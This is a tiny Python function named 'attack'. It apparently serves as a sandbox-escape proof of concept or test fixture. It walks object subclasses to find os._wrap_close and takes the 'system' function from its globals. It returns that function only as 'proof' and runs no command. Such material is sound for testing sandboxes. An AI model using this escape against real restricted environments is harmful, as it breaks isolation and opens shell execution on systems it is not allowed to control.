def attack():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return {"proof": str(c.__init__.__globals__["system"])}
